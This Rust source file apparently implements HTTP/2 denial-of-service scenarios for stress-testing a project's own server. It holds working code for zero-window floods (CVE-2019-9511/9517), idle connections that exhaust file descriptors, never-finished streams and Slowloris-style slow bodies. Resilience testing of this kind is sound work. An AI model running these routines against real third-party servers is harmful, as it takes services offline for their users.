//! Connections that are held: with a zero window, idle, or sending a byte per second.

use std::time::Duration;

use super::Scene;
use crate::attack::calls;
use crate::attack::frames::*;

/// CVE-2019-9511, CVE-2019-9517: sends many requests but opens no window for the responses.
pub(crate) fn zero_windows(scene: &Scene) -> String {
    let message = calls::message("198.51.100.1", "/people", None);
    let ask = |stream| {
        let headers = frame(HEADERS, END_HEADERS, stream, &check_head());
        [headers, frame(DATA, END_STREAM, stream, &message)].concat()
    };
    let asked: Vec<u8> = (0..1000).flat_map(|number| ask(2 * number + 1)).collect();
    let (mut held, mut asking) = (Vec::new(), 0);
    while !scene.is_over() {
        // Replaces connections that the server closes, so that 60 are always active.
        if held.len() < 60 {
            // SETTINGS_INITIAL_WINDOW_SIZE is 0.
            if let Ok(mut raw) = Raw::open(scene.address, &[(4, 0)]) {
                asking += 1;
                let _ = raw.acknowledge_settings().and_then(|()| raw.write(&asked));
                held.push(raw);
            }
        } else {
            std::thread::sleep(Duration::from_millis(50));
            held.retain_mut(|raw| raw.reaction_now().closed == 0);
        }
    }
    format!("{asking} connections with 1,000 calls each, {} still held at the end", held.len())
}

/// Connections that complete the handshake and then stay idle.
pub(crate) fn idle(scene: &Scene) -> String {
    let limit = descriptors();
    let mut held = Vec::new();
    while held.len() < limit && !scene.is_over() {
        held.extend(Raw::open(scene.address, &[]).ok());
    }
    std::thread::sleep(scene.left());
    let opened = held.len();
    held.retain_mut(|raw| !raw.is_closed());
    format!("{opened} opened, {} still held at the end", held.len())
}

/// 10,000 connections, or as many as the file descriptor limit of this process permits after
/// raising it.
fn descriptors() -> usize {
    use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
    let Rlimit { maximum, .. } = getrlimit(Resource::Nofile);
    // If it cannot be raised, the present limit applies.
    let _ = setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum });
    let current = getrlimit(Resource::Nofile).current.unwrap_or(u64::MAX);
    usize::try_from(current.saturating_sub(500)).unwrap_or(usize::MAX).min(10_000)
}

/// Messages that are begun and never ended, on 100 connections with as many streams as each may
/// have: more than may wait.
pub(crate) fn waiting(scene: &Scene) -> String {
    let start = [&[0, 0, 0, 4, 0][..], &[b'x'; 40]].concat();
    let begin = |number: u32| {
        let head = frame(HEADERS, END_HEADERS, 2 * number + 1, &check_head());
        [head, frame(DATA, 0, 2 * number + 1, &start)].concat()
    };
    let (mut held, mut calls) = (Vec::new(), 0);
    while !scene.is_over() && held.len() < 100 {
        let Ok(mut raw) = Raw::open(scene.address, &[]) else { continue };
        // `STREAMS_DIVIDEND` of the server, with one worker thread.
        let streams = 1536 / (u32::try_from(held.len()).unwrap_or(u32::MAX) + 4);
        let all: Vec<u8> = (0..streams).flat_map(begin).collect();
        let _ = raw.acknowledge_settings().and_then(|()| raw.write(&all));
        calls += streams;
        held.push(raw);
    }
    std::thread::sleep(scene.left());
    let denied: usize = held.iter_mut().map(|raw| raw.reaction_now().data).sum();
    format!("{calls} calls begun on {} connections; {denied} denied at once", held.len())
}

/// Slowloris: calls whose messages arrive at one byte per second; 100 on each of four connections.
pub(crate) fn slow_bytes(scene: &Scene) -> String {
    let start = [0, 0, 0, 1, 0];
    let mut held = Vec::new();
    for _ in 0..4 {
        if let Ok(mut raw) = Raw::open(scene.address, &[]) {
            let heads = (0..100)
                .flat_map(|number| frame(HEADERS, END_HEADERS, 2 * number + 1, &check_head()));
            let _ = raw.acknowledge_settings().and_then(|()| raw.write(&heads.collect::<Vec<_>>()));
            held.push(raw);
        }
    }
    let (opened, mut bytes) = (held.len(), 0);
    while !scene.is_over() {
        let byte = *start.get(bytes).unwrap_or(&b'x');
        let step: Vec<u8> =
            (0..100).flat_map(|number| frame(DATA, 0, 2 * number + 1, &[byte])).collect();
        held.retain_mut(|raw| raw.write(&step).is_ok());
        bytes += 1;
        std::thread::sleep(scene.left().min(Duration::from_secs(1)));
    }
    let seen = held.iter_mut().fold(Reaction::default(), |mut all, raw| {
        all += raw.reaction_now();
        all
    });
    format!(
        "400 calls on {opened} connections, {bytes} bytes each; {} answers, {} resets",
        seen.heads, seen.resets
    )
}
